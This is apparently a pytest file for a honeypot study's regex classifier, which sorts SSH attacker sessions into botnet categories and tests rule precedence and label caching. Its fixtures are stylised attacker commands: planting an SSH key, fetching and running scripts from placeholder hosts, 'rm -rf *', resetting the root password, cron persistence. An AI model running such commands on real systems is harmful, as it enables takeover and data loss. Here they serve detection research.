"""Table-1 regex rules: one canonical example per category, plus
precedence behaviour and the contract of the classifier's label memo."""

from __future__ import annotations

import sys
import threading

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.analysis import classify as classify_module
from repro.analysis.classify import DEFAULT_CLASSIFIER, CommandClassifier
from repro.analysis.regexrules import CATEGORY_NAMES, RULES, UNKNOWN_CATEGORY, rule_by_name
from repro.honeypot.session import CommandRecord, Protocol, SessionRecord

#: category → a canonical command string it must match.
CANONICAL = {
    "mdrfckr": 'echo "ssh-rsa AAAA... mdrfckr" >> .ssh/authorized_keys',
    "curl_maxred": "curl https://x/ --max-redirs 5",
    "rapperbot": 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAQCx rapper" >> k',
    "fslur_attack": "wget http://1.2.3.4/fslurtoken.sh",
    "gslur_echo": "echo gslurtoken > /tmp/.g",
    "ohshit_attack": "cd /tmp; wget http://h/ohshit.sh",
    "onions_attack": "wget http://h/onions1337.x86",
    "sora_attack": "cd /tmp; wget http://h/sora.sh",
    "heisen_attack": "wget http://h/Heisenberg.sh",
    "zeus_attack": "wget http://h/Zeus.arm",
    "update_attack": "wget http://h/update.sh; ./update.sh",
    "lenni_0451": "echo lenni0451 > /tmp/.l",
    "juicessh": "echo juicessh",
    "clamav": "echo x > /tmp/clamav.cron; crontab /tmp/clamav.cron",
    "passwd123_daemon": 'echo "daemon:Password123"|chpasswd; wget http://h/d',
    "wget_dget": "wget -4 http://h/d; dget -4 http://h/d",
    "openssl_passwd": "openssl passwd -1 abcd1234",
    "perl_dred_miner": "echo '#!/usr/bin/perl # dred' > /tmp/d.pl",
    "stx_miner": "export LC_ALL=C; echo stx > /tmp/.lock",
    "export_vei": "export VEI=1",
    "cloud_print": "echo cloud print test",
    "binx86": "lscpu | grep 'CPU(s):'; echo bin.x86_64",
    "root_17_char_pwd": 'echo "root:A1b2C3d4E5f6G7h8Z"|chpasswd',
    "root_12_char_echo321": 'echo "root:A1b2C3d4E5f6"|chpasswd; echo 321',
    "root_12_char_capscout": (
        'echo "root:A1b2C3d4E5f6"|chpasswd; '
        "cat /proc/cpuinfo | grep name | awk '{print $4,$5,$6,$7,$8,$9;}'"
    ),
    "ak47_scout": r'echo -e "\x41\x4b\x34\x37"; echo writable',
    "echo_ssh_check": 'echo "SSH check"',
    "echo_os_check": "echo 0a1b2c3d-0a1b-2c3d-4e5f-0a1b2c3d4e5f",
    "echo_ok": r'echo -e "\x6F\x6B"',
    "echo_ok_txt": "echo ok",
    "shell_fp": "echo $SHELL; dd bs=22 count=1",
    "uname_a_nproc": "uname -a; nproc",
    "uname_snri_nproc": "uname -s -n -r -i; nproc",
    "uname_svnrm": "uname -s -v -n -r -m",
    "uname_svnr_model": "uname -s -v -n -r; cat /proc/cpuinfo | grep 'model name'",
    "uname_svnr": "uname -s -v -n -r",
    "uname_a": "uname -a",
    "bbox_scout_cat": "/bin/busybox cat /proc/self/exe || cat /proc/self/exe",
    "bbox_loaderwget": "wget http://h/loader.wget",
    "bbox_echo_elf": r'/bin/busybox ps; echo -ne "\x7f\x45\x4c\x46" > .e',
    "bbox_rand_exec": "/bin/busybox dd if=/dev/urandom of=.r",
    "bbox_5_char_v2": "/bin/busybox QKZDF; /bin/busybox wget http://h/f",
    "rm_obf_pattern_1": "rm -rf *;cd /tmp ; echo x0x0x0; wget http://h/f",
    "rm_obf_pattern_7": "cd /tmp;rm -rf /tmp/* || cd /var/run; wget http://h/f",
    "bbox_unlabelled": "busybox ps; /tmp/f",
    "gen_curl_echo_ftp_wget": "curl -O u; echo x > f; ftpget h f f; wget u",
    "gen_curl_ftp_wget": "curl -O u; ftpget h f f; wget u",
    "gen_curl_echo_wget": "curl -O u; echo x > f; wget u",
    "gen_echo_ftp_wget": "echo x > f; ftpget h f f; wget u",
    "gen_curl_wget": "curl -O u; wget u",
    "gen_curl_echo": "curl -O u; echo x > f",
    "gen_echo_wget": "echo x > f; wget u",
    "gen_ftp_wget": "ftpget h f f; wget u",
    "gen_echo_ftp": "echo x > f; ftpget h f f",
    "gen_curl": "curl -O http://h/f",
    "gen_wget": "wget http://h/f",
    "gen_ftp": "ftpget -u anonymous h f f",
    "gen_echo": "echo payload > /tmp/f",
}


class TestRuleTable:
    def test_rule_count_is_58_plus_unknown(self):
        assert len(RULES) == 58
        assert len(CATEGORY_NAMES) == 59
        assert CATEGORY_NAMES[-1] == UNKNOWN_CATEGORY

    def test_names_unique(self):
        names = [rule.name for rule in RULES]
        assert len(names) == len(set(names))

    def test_every_rule_has_canonical_example(self):
        assert set(CANONICAL) == {rule.name for rule in RULES}

    def test_rule_by_name(self):
        assert rule_by_name("mdrfckr").name == "mdrfckr"
        with pytest.raises(KeyError):
            rule_by_name("nope")

    @pytest.mark.parametrize("category", sorted(CANONICAL))
    def test_canonical_example_classifies(self, category):
        assert DEFAULT_CLASSIFIER.classify_text(CANONICAL[category]) == category


class TestPrecedence:
    def test_mdrfckr_beats_everything(self):
        text = CANONICAL["rapperbot"] + "; mdrfckr"
        assert DEFAULT_CLASSIFIER.classify_text(text) == "mdrfckr"

    def test_specific_before_generic(self):
        # sora session also contains wget, but sora wins
        assert DEFAULT_CLASSIFIER.classify_text(CANONICAL["sora_attack"]) == "sora_attack"

    def test_uname_svnrm_before_svnr(self):
        assert DEFAULT_CLASSIFIER.classify_text("uname -s -v -n -r -m") == "uname_svnrm"

    def test_root17_before_root12(self):
        assert (
            DEFAULT_CLASSIFIER.classify_text('echo "root:AAAAbbbbCCCCddd17"|chpasswd')
            == "root_17_char_pwd"
        )

    def test_root12_does_not_match_17(self):
        text = 'echo "root:A1b2C3d4E5f6G7h8Z"|chpasswd; echo 321'
        assert DEFAULT_CLASSIFIER.classify_text(text) == "root_17_char_pwd"

    def test_bbox_5char_before_unlabelled(self):
        assert (
            DEFAULT_CLASSIFIER.classify_text(CANONICAL["bbox_5_char_v2"])
            == "bbox_5_char_v2"
        )

    def test_plain_busybox_falls_to_unlabelled(self):
        assert DEFAULT_CLASSIFIER.classify_text("busybox ps") == "bbox_unlabelled"

    def test_gen_order_most_tools_first(self):
        assert (
            DEFAULT_CLASSIFIER.classify_text(CANONICAL["gen_curl_echo_ftp_wget"])
            == "gen_curl_echo_ftp_wget"
        )

    def test_unknown_fallback(self):
        assert DEFAULT_CLASSIFIER.classify_text("cd /tmp; ./payload") == UNKNOWN_CATEGORY
        assert DEFAULT_CLASSIFIER.classify_text("") == UNKNOWN_CATEGORY

    def test_tftp_counts_as_ftp_tool(self):
        # "tftp" contains the "ftp" token, as in the paper's generic rules
        assert DEFAULT_CLASSIFIER.classify_text("tftp -g -r f h") == "gen_ftp"


#: The rule table with the generic ``gen_*`` rules moved to the front,
#: as ``ext_ablation_ruleorder`` builds it.
GENERIC_FIRST = tuple(r for r in RULES if r.name.startswith("gen_")) + tuple(
    r for r in RULES if not r.name.startswith("gen_")
)

#: Input lines: canonical examples, the empty line and free text.
command_lines = st.one_of(
    st.sampled_from(sorted(CANONICAL.values())), st.just(""), st.text(max_size=40)
)

sessions_lines = st.lists(st.lists(command_lines, max_size=5), max_size=12)


def make_session(lines: list[str]) -> SessionRecord:
    return SessionRecord(
        session_id="s-1",
        honeypot_id="hp-000",
        honeypot_ip="192.0.2.1",
        honeypot_port=22,
        protocol=Protocol.SSH,
        client_ip="198.51.100.7",
        client_port=40000,
        start=0.0,
        end=5.0,
        commands=[CommandRecord(raw=line, known=True) for line in lines],
    )


def assert_labels_match_rules(classifier: CommandClassifier, sessions) -> None:
    for session in sessions:
        assert classifier.classify(session) == classifier.classify_text(
            session.command_text
        )


class TestLabelMemo:
    @given(batch=sessions_lines)
    @settings(max_examples=150, deadline=None)
    def test_label_is_the_rules_label(self, batch):
        sessions = [make_session(lines) for lines in batch]
        for rules in (RULES, GENERIC_FIRST):
            classifier = CommandClassifier(rules)
            assert_labels_match_rules(classifier, sessions)
            assert_labels_match_rules(classifier, sessions)

    @given(batch=sessions_lines)
    @settings(max_examples=100, deadline=None)
    def test_label_survives_the_memo_clearing(self, batch):
        sessions = [make_session(lines) for lines in batch]
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(classify_module, "LABEL_CACHE_LIMIT", 2)
            for rules in (RULES, GENERIC_FIRST):
                classifier = CommandClassifier(rules)
                for session in sessions + sessions:
                    assert classifier.classify(session) == (
                        classifier.classify_text(session.command_text)
                    )
                    assert len(classifier._labels) <= 2

    def test_rules_run_once_per_distinct_sequence(self):
        classifier = CommandClassifier()
        texts: list[str] = []
        rules_label = classifier.classify_text

        def counting(text: str) -> str:
            texts.append(text)
            return rules_label(text)

        classifier.classify_text = counting
        lines = [[], ["uname -a"], [], ["uname -a"], ["uname -a", "nproc"]]
        for _ in range(3):
            for session_lines in lines:
                classifier.classify(make_session(session_lines))
        assert texts == ["", "uname -a", "uname -a ; nproc"]

    def test_each_rule_order_keeps_its_own_labels(self):
        session = make_session([CANONICAL["sora_attack"]])
        default = CommandClassifier()
        generic_first = CommandClassifier(GENERIC_FIRST)
        for _ in range(2):
            assert default.classify(session) == "sora_attack"
            assert generic_first.classify(session) == "gen_wget"

    def test_replaced_commands_get_the_new_label(self):
        session = make_session([CANONICAL["sora_attack"]])
        classifier = CommandClassifier()
        fields = dict(vars(session))
        assert classifier.classify(session) == "sora_attack"
        assert vars(session) == fields
        session.commands = [CommandRecord(raw="uname -a", known=True)]
        assert classifier.classify(session) == "uname_a"
        session.commands.append(CommandRecord(raw="nproc", known=True))
        assert classifier.classify(session) == "uname_a_nproc"

    def test_threads_sharing_one_classifier_get_the_rules_labels(self):
        lines = [[text] for text in sorted(CANONICAL.values())] + [[], ["ls"]]
        sessions = [make_session(session_lines) for session_lines in lines]
        expected = [CommandClassifier().classify_text(s.command_text) for s in sessions]
        classifier = CommandClassifier()
        mismatches: list[str] = []

        def classify_all() -> None:
            for _ in range(20):
                for session, label in zip(sessions, expected):
                    if classifier.classify(session) != label:
                        mismatches.append(label)

        interval = sys.getswitchinterval()
        sys.setswitchinterval(1e-6)
        try:
            with pytest.MonkeyPatch.context() as patch:
                patch.setattr(classify_module, "LABEL_CACHE_LIMIT", 8)
                threads = [threading.Thread(target=classify_all) for _ in range(8)]
                for thread in threads:
                    thread.start()
                for thread in threads:
                    thread.join(timeout=60)
        finally:
            sys.setswitchinterval(interval)
        assert not any(thread.is_alive() for thread in threads)
        assert mismatches == []
